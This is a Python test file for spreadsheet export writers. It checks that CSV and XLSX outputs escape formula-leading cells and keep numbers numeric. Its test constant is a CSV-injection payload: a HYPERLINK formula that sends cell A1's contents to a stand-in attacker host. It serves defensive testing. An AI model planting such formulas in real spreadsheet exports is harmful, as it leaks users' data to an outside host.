"""The tabular writers never hand a spreadsheet a formula, and keep numbers as numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.exports.tabular import DANGEROUS_PREFIXES, XLSX_CELL_LIMIT, Sheet, to_csv, to_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _reload(data: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def test_a_formula_in_csv_starts_with_a_quote() -> None:
    data = to_csv(
        [[ATTACK, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", -5, 2.5, None]], list("abcdefghij")
    )
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[:6] == ["'" + ATTACK, "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert row[6:] == ["plain", "-5", "2.5", ""]


def test_a_formula_in_xlsx_is_stored_as_text() -> None:
    rows = _reload(to_xlsx([Sheet("data", ["=header"], [[ATTACK], [-5], ["@x"]])]))
    header, attack, number, at = (row[0] for row in rows)
    assert header.data_type == "s"
    assert header.value == "'=header"
    assert attack.data_type == "s"
    assert attack.value == "'" + ATTACK
    assert number.data_type == "n"
    assert number.value == -5
    assert at.value == "'@x"


def test_the_xlsx_file_holds_no_formula_element() -> None:
    import zipfile

    data = to_xlsx([Sheet("data", ["a"], [[ATTACK]])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name)
            assert b"<f " not in archive.read(name)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=40))
def test_no_text_cell_ever_reads_as_a_formula(value: str) -> None:
    rows = _reload(to_xlsx([Sheet("data", ["a"], [[value]])]))
    cell = rows[1][0]
    assert cell.data_type in ("s", "inlineStr")  # text; an empty string is written inline
    assert not str(cell.value or "").startswith(DANGEROUS_PREFIXES)
    line = list(csv.reader(io.StringIO(to_csv([[value]], ["a"]).decode("utf-8-sig"), newline="")))
    if value:
        assert not line[1][0].startswith(DANGEROUS_PREFIXES)


def test_control_characters_and_overlong_text_still_make_a_readable_workbook() -> None:
    rows = _reload(to_xlsx([Sheet("a/b:c", ["x"], [["bell\x07"], ["y" * (XLSX_CELL_LIMIT + 10)]])]))
    assert rows[1][0].value == "bell\ufffd"
    assert len(str(rows[2][0].value)) == XLSX_CELL_LIMIT


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="cells"):
        to_csv([["a", "b"]], ["one"])
    with pytest.raises(ValueError, match="cells"):
        to_xlsx([Sheet("s", ["one"], [["a", "b"]])])


def _openpyxl_xlsx(sheets: list[Sheet]) -> bytes:
    """The writer this module used before its own: openpyxl write-only, text cells forced to strings."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    from app.exports.tabular import _sheet_title, _xlsx_text

    workbook = Workbook(write_only=True)
    taken: set[str] = set()
    for sheet in sheets:
        worksheet = workbook.create_sheet(_sheet_title(sheet.title, taken))
        cells = []
        for column in sheet.columns:
            cell = WriteOnlyCell(worksheet, value=_xlsx_text(column))
            cell.data_type = "s"
            cell.font = Font(bold=True)
            cells.append(cell)
        worksheet.append(cells)
        for row in sheet.rows:
            made = []
            for value in row:
                cell = WriteOnlyCell(worksheet, value=_xlsx_text(value) if isinstance(value, str) else value)
                if isinstance(value, str):
                    cell.data_type = "s"
                made.append(cell)
            worksheet.append(made)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _cells(data: bytes) -> list[tuple[str, list[list[tuple[Any, str, bool]]]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [
        (
            sheet.title,
            [[(cell.value, cell.data_type, bool(cell.font.b)) for cell in row] for row in sheet.iter_rows()],
        )
        for sheet in workbook.worksheets
    ]


def test_the_streamed_workbook_reads_back_exactly_as_openpyxls_did() -> None:
    tricky: list[Any] = [
        ATTACK, "", " lead", "trail ", 'a&b<c>d"e\'f', "x\ry\nz\r\n", "#N/A", "TRUE", "0123", "Тавор",
        "a\x01b", "z" * (XLSX_CELL_LIMIT + 5), 0, -7, 2**40, 2.5, -0.125, 1e-7, True, False, None, "@x",
        "\tx",
    ]  # fmt: skip
    columns = [f"c{n}" for n in range(len(tricky))]
    sheets = [
        Sheet("incidents", columns, [tricky, list(reversed(tricky)), [None] * len(tricky)]),
        Sheet("a/b:c[d]", ["=h", "plain"], [["k", 1]]),
        Sheet("incidents", ["x"], []),
        Sheet("dictionary", ["column", "meaning"], [["tactic", "V1 tactic & more <here>."]]),
    ]
    assert _cells(to_xlsx(sheets)) == _cells(_openpyxl_xlsx(sheets))


def test_the_csv_cells_are_the_ones_the_per_cell_writer_made() -> None:
    from app.exports.tabular import _csv_value

    rows: list[list[Any]] = [[ATTACK, "", "-1", 3, -2, 2.5, True, False, None, "x,y", 'q"q', "\tx", "Тавор"]]
    columns = [f"c{n}" for n in range(len(rows[0]))]
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    writer.writerows([[_csv_value(value) for value in row] for row in rows])
    assert to_csv(rows, columns) == buffer.getvalue().encode("utf-8-sig")
